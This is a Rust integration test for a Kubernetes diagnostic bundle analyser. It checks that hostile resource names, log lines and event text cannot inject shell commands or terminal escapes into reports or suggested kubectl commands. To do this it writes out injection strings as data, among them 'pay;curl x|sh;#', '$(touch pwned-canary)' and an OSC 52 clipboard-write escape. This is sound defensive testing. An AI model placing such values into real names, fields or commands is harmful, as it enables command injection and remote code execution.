//! A bundle full of hostile names, labels, log lines and event messages,
//! generated at test time from the `demo` scenario, analysed to HTML,
//! Markdown and JSON: no raw terminal escape reaches any output, no mention
//! or issue reference survives in Markdown, every output stays bounded, and
//! every suggested command parses in bash and reaches a stub `kubectl` as
//! exactly the words kpm meant, with nothing else run (a canary file that an
//! injected `touch` would create never appears). Reports written with `-o`
//! never go through a planted symlink, fifo or directory.

use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::Value;

use crate::support::analyze::*;

/// The file an injected command would create (relative: commands run with
/// the test's scratch directory as working directory).
const CANARY: &str = "pwned-canary";
/// A pod name no API server accepts, but a bundle can hold.
const EVIL_POD: &str = "x$(touch pwned-canary)";
/// A namespace with shell syntax.
const EVIL_NS: &str = "pay;curl x|sh;#";
/// A ConfigMap name with a quote.
const EVIL_CM: &str = "fc'$(touch pwned-canary)'";
/// Terminal escapes (OSC 52 clipboard write, clear screen, C1 CSI, bidi
/// override), a mention, an issue reference and a fence.
const EVIL_TEXT: &str =
    "\u{1b}]52;c;ZWNobyBwd25lZA==\u{7}\u{1b}[2J\u{9b}31m\u{202e} ping @org/team re #123\n```\n;curl x|sh;#";

fn is_raw_control(c: char) -> bool {
    let u = u32::from(c);
    (u < 0x20 && c != '\n' && c != '\t')
        || (0x7f..=0x9f).contains(&u)
        || (0x202a..=0x202e).contains(&u)
        || (0x2066..=0x2069).contains(&u)
}

/// Copies `from` to `to`, replacing `pairs` in every path and file content.
fn copy_replacing(from: &Path, to: &Path, pairs: &[(&str, &str)]) {
    std::fs::create_dir_all(to).unwrap();
    for entry in std::fs::read_dir(from).unwrap() {
        let entry = entry.unwrap();
        let mut name = entry.file_name().to_string_lossy().into_owned();
        for (a, b) in pairs {
            name = name.replace(a, b);
        }
        let dest = to.join(name);
        if entry.file_type().unwrap().is_dir() {
            copy_replacing(&entry.path(), &dest, pairs);
        } else {
            let mut text = std::fs::read_to_string(entry.path()).unwrap();
            for (a, b) in pairs {
                text = text.replace(a, b);
            }
            std::fs::write(dest, text).unwrap();
        }
    }
}

fn edit_json(path: &Path, f: impl FnOnce(&mut Value)) {
    let mut v: Value = serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
    f(&mut v);
    std::fs::write(path, serde_json::to_string(&v).unwrap()).unwrap();
}

/// The `demo` scenario made hostile.
fn hostile_bundle(root: &Path) -> PathBuf {
    let dir = root.join("hostile");
    copy_replacing(
        &scenario("demo"),
        &dir,
        &[
            ("recommendations-nfghd7fgj-zrx6r", EVIL_POD),
            ("payments", EVIL_NS),
            ("frontend-config", EVIL_CM),
        ],
    );
    let shop = dir.join("namespaces/shop");
    edit_json(&shop.join("events.json"), |v| {
        for e in v["items"].as_array_mut().unwrap() {
            e["message"] = Value::String(EVIL_TEXT.into());
        }
    });
    edit_json(&shop.join("pods.json"), |v| {
        let first = &mut v["items"][0]["metadata"]["labels"];
        first["evil"] = Value::String("v".repeat(10 << 20));
    });
    let log = dir.join("logs/shop/recommendations-nfghd7fgj-m8f9z/recommendations.previous.log");
    let mut text = std::fs::read_to_string(&log).unwrap();
    text.push_str(EVIL_TEXT);
    text.push_str(
        "\ndial tcp: lookup evil$(touch pwned-canary).svc on 10.96.0.10:53: no such host\n",
    );
    text.push_str("pods is forbidden: User \"system:serviceaccount:shop:default\" cannot list resource \"pods;id\" in API group \"\" in the namespace \"a;b\"\n");
    std::fs::write(&log, text).unwrap();
    dir
}

/// POSIX quoting as `kpm-analyze` does it: the oracle the stub's argv is
/// joined with to prove bash split each command into kpm's words.
fn quote(word: &str) -> String {
    let bare = |c: char| c.is_ascii_alphanumeric() || "._/:=@%+,-".contains(c);
    if !word.is_empty() && !word.starts_with('=') && word.chars().all(bare) {
        word.to_string()
    } else {
        format!("'{}'", word.replace('\'', "'\\''"))
    }
}

fn stub_kubectl(dir: &Path) -> PathBuf {
    let bin = dir.join("stub-bin");
    std::fs::create_dir_all(&bin).unwrap();
    let script = bin.join("kubectl");
    std::fs::write(
        &script,
        "#!/bin/sh\nprintf 'kubectl\\0' > \"$KPM_ARGV\"\nfor a in \"$@\"; do printf '%s\\0' \"$a\" >> \"$KPM_ARGV\"; done\n",
    )
    .unwrap();
    let made = Command::new("chmod")
        .arg("+x")
        .arg(&script)
        .status()
        .unwrap();
    assert!(made.success());
    bin
}

/// Analyses `bundle` to HTML, Markdown and JSON under `dir`: each run exits
/// 0 with no raw control character on stderr. Returns (file name, text).
fn render_all(bundle: &Path, dir: &Path) -> Vec<(&'static str, String)> {
    let mut outputs = Vec::new();
    for name in ["r.html", "r.md", "r.json"] {
        let path = dir.join(name);
        let out = analyze_s(&[bundle.as_os_str(), "-o".as_ref(), path.as_os_str()]);
        assert_eq!(code(&out), EXIT_OK, "{}", stderr(&out));
        let err = stderr(&out);
        assert!(
            !err.chars().any(is_raw_control),
            "raw control on stderr: {err:?}"
        );
        outputs.push((name, std::fs::read_to_string(&path).unwrap()));
    }
    outputs
}

/// No raw control in any output, every output bounded, and in Markdown the
/// escape shown visibly and mentions/issue references only inside code.
fn assert_outputs_neutral(outputs: &[(&str, String)]) {
    for (name, text) in outputs {
        assert!(!text.chars().any(is_raw_control), "raw control in {name}");
        // The 10 MB label and every other string are capped.
        assert!(text.len() < 4 << 20, "{name} is {} bytes", text.len());
    }
    let md = &outputs[1].1;
    assert!(md.chars().count() <= 60_000);
    assert!(md.contains("\\x1b]52;c;"), "escape not shown visibly");
    for token in ["@org/team", "#123"] {
        assert!(md.contains(token), "{token} not in the Markdown at all");
        for (i, _) in md.match_indices(token) {
            let in_code = md[..i].ends_with('`') || {
                // Inside a fenced block the token is not linked either.
                let before = &md[..i];
                before.matches("\n```").count() % 2 == 1
            };
            assert!(in_code, "unneutralised {token} at {i}");
        }
    }
}

/// Every suggested command of the JSON report, with its finding's object.
fn suggested_commands(report: &Value) -> Vec<(String, String)> {
    findings(report)
        .iter()
        .flat_map(|f| {
            let object = object_of(f);
            f["next_steps"]
                .as_array()
                .cloned()
                .unwrap_or_default()
                .into_iter()
                .map(move |s| {
                    (
                        object.clone(),
                        s["command"].as_str().unwrap_or("").to_string(),
                    )
                })
        })
        .collect()
}

/// Runs every command in bash against the stub `kubectl`: each parses,
/// reaches kubectl as exactly its words, and nothing injected runs.
fn assert_commands_inert(dir: &Path, commands: &[(String, String)]) {
    let bin = stub_kubectl(dir);
    let argv = dir.join("argv");
    let path = format!("{}:/usr/bin:/bin", bin.display());
    for (object, c) in commands {
        let syntax = Command::new("bash").args(["-n", "-c", c]).status().unwrap();
        assert!(syntax.success(), "{object}: bash -n rejects {c}");
        let _ = std::fs::remove_file(&argv);
        let run = Command::new("bash")
            .args(["-c", c])
            .current_dir(dir)
            .env("PATH", &path)
            .env("KPM_ARGV", &argv)
            .output()
            .unwrap();
        assert!(run.status.success(), "{object}: {c}: {run:?}");
        let recorded = std::fs::read(&argv).unwrap_or_default();
        let words: Vec<String> = String::from_utf8_lossy(&recorded)
            .split_terminator('\0')
            .map(String::from)
            .collect();
        let rejoined: Vec<String> = words.iter().map(|w| quote(w)).collect();
        assert_eq!(&rejoined.join(" "), c, "{object}: kubectl got {words:?}");
    }
    assert!(!dir.join(CANARY).exists(), "a command ran injected code");
}

#[test]
fn hostile_bundle_renders_safely_and_its_commands_are_inert() {
    let tmp = tempfile::tempdir().unwrap();
    let bundle = hostile_bundle(tmp.path());
    let outputs = render_all(&bundle, tmp.path());
    assert_outputs_neutral(&outputs);

    let report: Value = serde_json::from_str(&outputs[2].1).unwrap();
    let commands = suggested_commands(&report);
    assert!(
        commands.len() >= 5,
        "too few commands to prove anything: {commands:?}"
    );
    // The valid twin of the evil pod still gets its commands...
    assert!(commands
        .iter()
        .any(|(_, c)| c.contains("recommendations-nfghd7fgj-m8f9z")));
    // ...while no command names an invalid object or carries log text.
    for (object, c) in &commands {
        for bad in ["$(", "pay;", "fc'", "pods;id", "evil", "a;b"] {
            assert!(!c.contains(bad), "{object}: {c}");
        }
    }
    assert_commands_inert(tmp.path(), &commands);
}

#[cfg(unix)]
#[test]
fn output_never_goes_through_links_fifos_or_directories() {
    let tmp = tempfile::tempdir().unwrap();
    let bundle = scenario("healthy");
    let victim = tmp.path().join("bashrc");
    std::fs::write(&victim, "original").unwrap();
    let link = tmp.path().join("r.json");
    std::os::unix::fs::symlink(&victim, &link).unwrap();
    let fifo = tmp.path().join("r.md");
    assert!(Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap()
        .success());
    let dir = tmp.path().join("out\u{1b}[2J.html");
    std::fs::create_dir(&dir).unwrap();
    for (target, what) in [(&link, "symlink"), (&fifo, "fifo"), (&dir, "directory")] {
        let out = analyze_s(&[bundle.as_os_str(), "-o".as_ref(), target.as_os_str()]);
        assert_eq!(code(&out), EXIT_OUTPUT, "{what}: {}", stderr(&out));
        let err = stderr(&out);
        assert!(err.contains(what), "{err}");
        assert!(
            !err.chars().any(is_raw_control),
            "raw control on stderr: {err:?}"
        );
    }
    // The path is named, its escape shown visibly.
    let out = analyze_s(&[bundle.as_os_str(), "-o".as_ref(), dir.as_os_str()]);
    assert!(
        stderr(&out).contains("out\\x1b[2J.html"),
        "{}",
        stderr(&out)
    );
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "original");
    let left: Vec<_> = std::fs::read_dir(tmp.path())
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .filter(|n| n.to_string_lossy().starts_with(".kpm-"))
        .collect();
    assert!(left.is_empty(), "temporary files left: {left:?}");
}
